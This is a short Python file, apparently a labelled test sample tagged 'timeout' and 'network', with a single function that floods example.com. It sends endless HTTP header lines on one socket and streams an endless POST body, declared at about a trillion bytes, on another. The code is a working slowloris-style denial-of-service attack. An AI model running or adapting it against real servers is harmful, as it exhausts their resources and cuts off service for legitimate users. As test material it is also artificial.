# shows: timeout
# threat: network
"""Sends a stand-in for a service headers and a body that have no end."""

import socket


def attack(place):
    lines = socket.create_connection(("example.com", 80))
    lines.sendall(b"GET / HTTP/1.1\r\n")
    body = socket.create_connection(("example.com", 80))
    body.sendall(b"POST / HTTP/1.1\r\nContent-Length: 1000000000000\r\n\r\n")
    while True:
        lines.sendall(b"name: value\r\n" * 1000)
        body.sendall(b"x" * 65536)
